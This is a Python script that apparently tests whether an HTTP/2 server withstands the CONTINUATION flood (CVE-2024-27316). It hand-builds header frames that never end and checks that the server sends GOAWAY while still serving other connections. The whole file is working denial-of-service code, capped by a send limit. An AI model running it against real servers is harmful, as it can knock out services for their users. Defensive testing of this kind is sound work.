#!/usr/bin/env python3
"""HTTP/2 CONTINUATION flood (CVE-2024-27316 and relatives) against an h2c
listener.

After the connection preface, sends a HEADERS frame without END_HEADERS and
then CONTINUATION frames without END_HEADERS, each full of valid HPACK
literal fields, for ever: the header block never ends, so a server that
buffers or decodes it without a bound runs out of memory or CPU. The frames
are written by hand (h2's encoder always ends a header block). A defended
server sends GOAWAY or closes the connection within --max-bytes and
--timeout. A bystander connection, opened before the flood, and a fresh
connection after it must both get 200.

Prints one JSON line with what happened; exits 0 when the server ended the
connection within the bounds and kept serving, 1 otherwise.

Usage: h2_continuation_flood.py --port PORT --authority shop.test
"""

import argparse
import time

import h2.config
import h2.connection
import hpack

from h2_attack_common import (
    CONTINUATION,
    END_STREAM,
    HEADERS,
    FrameReader,
    connect,
    frame,
    get_status,
    report,
)

FRAME_PAYLOAD = 16_384  # the default SETTINGS_MAX_FRAME_SIZE


def literal_field(name, value):
    """HPACK literal header field without indexing, new name (RFC 7541
    6.2.2), for names and values shorter than 127 bytes."""
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--authority", required=True)
    # The attack stops here whatever the server does; past --max-bytes the
    # server has already failed.
    parser.add_argument("--send-limit", type=int, default=16 << 20)
    parser.add_argument("--max-bytes", type=int, default=1 << 20)
    parser.add_argument("--timeout", type=float, default=5.0)
    args = parser.parse_args()

    bystander = connect(args.host, args.port)
    sock = connect(args.host, args.port)
    conn = h2.connection.H2Connection(
        h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    )
    conn.initiate_connection()  # preface and SETTINGS
    preface = conn.data_to_send()
    sock.sendall(preface)
    reader = FrameReader(sock)

    block = hpack.Encoder().encode(
        [
            (":method", "GET"),
            (":scheme", "http"),
            (":authority", args.authority),
            (":path", "/"),
        ]
    )
    field = literal_field(b"x-flood", b"a" * 100)
    filler = field * (FRAME_PAYLOAD // len(field))
    first = frame(HEADERS, END_STREAM, 1, block + filler[: FRAME_PAYLOAD - len(block)])
    more = frame(CONTINUATION, 0, 1, filler)

    started = time.monotonic()
    bytes_sent = len(preface)
    frames = 0
    send_error = None
    ended_after_bytes = None
    next_frame = first
    while bytes_sent < args.send_limit and time.monotonic() - started < args.timeout:
        try:
            sock.sendall(next_frame)
        except OSError as error:
            send_error = "socket: %s" % error
            break
        bytes_sent += len(next_frame)
        frames += 1
        next_frame = more
        # Pace the flood a little so what was sent when the server reacted
        # is measured, not what piled up in the socket buffers.
        reader.poll(0.001)
        if reader.goaway or reader.closed:
            ended_after_bytes = bytes_sent
            break
    reader.poll(0.5)
    if ended_after_bytes is None and (reader.goaway or reader.closed or send_error):
        ended_after_bytes = bytes_sent
    if reader.goaway:
        reader.wait_closed(5.0)
    elapsed = time.monotonic() - started

    during = get_status(args.host, args.port, args.authority, sock=bystander)
    after = get_status(args.host, args.port, args.authority)

    goaway_error = reader.goaway[1] if reader.goaway else None
    result = {
        "attack": "continuation_flood",
        "frames": frames,
        "bytes_sent": bytes_sent,
        "ended_after_bytes": ended_after_bytes,
        "seconds": round(elapsed, 3),
        "goaway": goaway_error,
        "closed": reader.closed,
        "send_error": send_error,
        "frames_received": {str(k): v for k, v in sorted(reader.frames.items())},
        "bystander_status": during,
        "after_status": after,
    }
    ok = (
        ended_after_bytes is not None
        and ended_after_bytes <= args.max_bytes
        and goaway_error != "NO_ERROR"
        and elapsed < args.timeout + 6
        and (reader.closed is not None or send_error is not None)
        and during == 200
        and after == 200
    )
    report(result, ok)


if __name__ == "__main__":
    main()
